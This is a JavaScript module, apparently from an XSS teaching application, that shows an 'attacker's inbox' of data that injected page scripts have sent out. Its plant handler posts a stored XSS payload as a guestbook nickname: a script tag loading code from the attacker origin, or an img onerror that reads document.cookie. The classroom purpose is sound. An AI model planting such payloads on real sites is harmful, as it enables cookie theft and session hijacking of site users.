/** The attacker's inbox: what scripts on a page have sent there. */

import { send } from './api.js';
import { element } from './dom.js';
import { time, word } from './words.js';

/** While the tab is open, the inbox is read once in this many milliseconds. */
const pace = 1000;

/**
 * @param {HTMLElement} box
 * @param {import('./page.js').Page} page
 */
export function inbox(box, page) {
  const entries = box.querySelector('[data-entries]');
  const find = (field) => box.querySelector(`[data-field=${field}]`);
  /** Key of the word on what planting came to. */
  let said = '';
  let seen = { origin: null, entries: [] };

  const render = () => {
    find('inbox_where').replaceChildren(...(seen.origin
      ? [word('inbox.where'), ' ', link(`${seen.origin}/`, seen.origin)]
      : [word('inbox.off'), ' ', element('code', '', '--attacker none')]));
    find('inbox_books').replaceChildren(word('inbox.books'), ...page.strategies.flatMap(({ slug }) => [' ', link(`/${slug}/guestbook`, slug)]));
    find('inbox_said').textContent = said && word(said);
    entries.replaceChildren(...seen.entries.map(({ at, strategy, kind, value }) => element(
      'li', '', `${time(at)} `, element('b', '', strategy), ` ${kind} `, element('code', '', value),
    )));
    if (!seen.entries.length) entries.append(element('li', 'none', word('inbox.nothing')));
  };
  const look = async () => {
    const { status, body } = await send('/classroom/inbox', { method: 'GET' });
    if (status === 200) seen = body;
    render();
    if (!box.closest('[role=tabpanel]').hidden) setTimeout(look, pace);
  };
  box.closest('[role=tabpanel]').addEventListener('opened', async () => {
    box.ariaBusy = 'true';
    await look();
    box.ariaBusy = 'false';
  });
  const plant = box.querySelector('[data-inbox-plant]');
  plant.addEventListener('click', async () => {
    box.ariaBusy = 'true';
    const nickname = seen.origin ? `<script src=${seen.origin}/x.js></script>` : '<img src=x onerror="alert(document.cookie)">';
    const done = await page.enqueue(() => Promise.all(page.strategies.map((column) => column.does('nickname', { nickname }))));
    said = done.some(({ status }) => status === 200) ? 'inbox.planted' : 'inbox.first';
    render();
    page.changed('nickname');
    box.ariaBusy = 'false';
  });
  box.querySelector('[data-inbox-empty]').addEventListener('click', async () => {
    await send('/classroom/inbox', { method: 'DELETE' });
    seen.entries = [];
    render();
  });
  document.addEventListener('words', render);
}

function link(href, text) {
  const made = element('a', '', text);
  made.href = href;
  return made;
}
